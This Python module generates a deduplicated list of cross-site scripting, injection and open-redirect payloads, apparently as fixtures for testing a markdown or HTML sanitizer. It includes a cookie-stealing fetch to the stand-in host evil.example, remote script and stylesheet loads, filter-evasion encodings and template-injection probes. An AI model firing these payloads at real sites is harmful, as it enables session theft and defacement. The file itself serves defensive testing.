"""What people have tried in order to run a script, to fetch from elsewhere, or to lead somebody away."""

import itertools

_CODE = ("alert(1)", "fetch('https://evil.example/'+document.cookie)")
_TAGS = (
    "<script>{0}</script>", "<ScRiPt >{0}</sCrIpT >", "<script src=//evil.example/x.js></script>", "<script/x>{0}</script>",
    "<scr<script>ipt>{0}</scr</script>ipt>", '"><script>{0}</script>', "'><script>{0}</script>", "</title><script>{0}</script>",
    "</textarea><script>{0}</script>", "</option></select><script>{0}</script>", "--><script>{0}</script>", "]]><script>{0}</script>",
    "<script>{0}", "<script\n>{0}</script\n>", "<svg><script>{0}</script></svg>", "<svg><script href=data:,{0} />",
    "<math><mtext></form><form><mglyph><style></math><img src=x onerror={0}>",
    '<noscript><p title="</noscript><img src=x onerror={0}>">', "<template><script>{0}</script></template>",
    "<iframe srcdoc='<script>{0}</script>'></iframe>",
)  # fmt: skip
_HANDLERS = (
    "<img src=x onerror={0}>", "<img src=x oNeRrOr={0}//", "<img/src=x/onerror={0}>", "<svg onload={0}>", "<svg/onload={0}>",
    "<body onload={0}>", "<video><source onerror={0}></video>", "<audio src=x onerror={0}>", "<details open ontoggle={0}>x</details>",
    "<input autofocus onfocus={0}>", "<select autofocus onfocus={0}>", "<marquee onstart={0}>x</marquee>", "<object data=x onerror={0}>",
    '" onmouseover="{0}" x="', "' onfocus='{0}' autofocus='", "` onclick=`{0}`", 'x" autofocus onfocus={0} y="',
    "<a onclick={0}>x</a>", "<div onpointerenter={0}>x</div>", "<form><button formaction=javascript:{0}>x</button></form>",
    "<isindex type=image src=1 onerror={0}>", "<style onload={0}></style>", "<link rel=stylesheet href=x onerror={0}>",
)  # fmt: skip
_SCHEMES = (
    "javascript:{0}", "JaVaScRiPt:{0}", "java\tscript:{0}", " javascript:{0}", "\x01javascript:{0}", "javascript&colon;{0}",
    "javascript&#58;{0}", "&#106;avascript:{0}", "&#x6A;avascript:{0}", "java&Tab;script:{0}", "vbscript:{0}", "data:text/html,<script>{0}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "javascript%3A{0}", "javascript://%0A{0}",
)  # fmt: skip
_LINKS = ("[x]({0})", '<a href="{0}">x</a>', "![x]({0})", "<{0}>")
_ELSEWHERE = (
    "https://evil.example/?q=secret", "http://evil.example/x", "//evil.example/x", "/\\evil.example", "\\\\evil.example/x", "https:evil.example",
    "https://good.example@evil.example/", "https://good.example.evil.example/", "https://good.example\\@evil.example/", "https://evil.example/good.example",
    "https://good.example:8443/", "ftp://good.example/", "file:///etc/passwd", "///evil.example", "/\t/evil.example", "https://evil.example\u3002com/",
)  # fmt: skip
_FETCHES = ("[x]({0})", "![x]({0})", "[![x]({0})]({0})", '<img src="{0}">', "[1]: {0}\n\nAs said [1].", "<{0}>")
_OTHER = (
    '![x](https://evil.example/p.png "t\\" onerror=alert(1) x=\\"")', '[x](/documents "\\" onclick=alert(1) \\"")',
    "{{ config }}{% raw %}${7*7}#{7*7}", "{{constructor.constructor('alert(1)')()}}", "<%= 7*7 %>", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<style>@import 'https://evil.example/x.css';</style>", '<div style="background:url(https://evil.example/x)">x</div>',
    '<p style="width:expression(alert(1))">x</p>', "<base href=https://evil.example/>", "<meta http-equiv=refresh content=0;url=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>", "<embed src=https://evil.example/x.swf>", "<object data=https://evil.example/></object>",
    "<form action=https://evil.example/><input type=submit>", '<img srcset="https://evil.example/x 1x">', "<video poster=https://evil.example/x>",
    "<input type=image src=https://evil.example/x>", "<table background=https://evil.example/x><tr><td>x", "<svg><image href=https://evil.example/x /></svg>",
    '<svg><use href="https://evil.example/x#a"/></svg>', "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "<\u200bscript>alert(1)</script>", "<img src=x onerror=&#97;lert(1)>", "```\n</code></pre><script>alert(1)</script>",
    "`</code><img src=x onerror=alert(1)>`", "$</p><script>alert(1)</script>$", "\\[<img src=x onerror=alert(1)>\\]", "$$<svg onload=alert(1)>$$",
    "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| [x](javascript:alert(1)) | [1](javascript:alert(1)) |", "[1](https://evil.example/)", "[[1]](javascript:alert(1))",
    "[x][1]\n\n[1]: javascript:alert(1)", "~~<script>alert(1)</script>~~", "> <iframe src=https://evil.example/>", "- <a href=javascript:alert(1)>x",
    "# </h1><script>alert(1)</script>", "<![CDATA[<script>alert(1)</script>]]>", "<?xml version='1.0'?><x/>", "<!DOCTYPE html><script>alert(1)</script>",
    "a\u202e<script>alert(1)</script>", '<a href="x" target=_blank onclick=alert(1)', "<img src='x", '<textarea><img title="</textarea><img src=x onerror=alert(1)>">',
)  # fmt: skip


def payloads() -> list[str]:
    """Return all of them, each once."""
    made = [shape.replace("{0}", code) for shape, code in itertools.product((*_TAGS, *_HANDLERS), _CODE)]
    made += [
        link.replace("{0}", scheme.replace("{0}", "alert(1)")) for link, scheme in itertools.product(_LINKS, _SCHEMES)
    ]
    made += [shape.replace("{0}", address) for shape, address in itertools.product(_FETCHES, _ELSEWHERE)]
    return list(dict.fromkeys([*made, *_OTHER]))
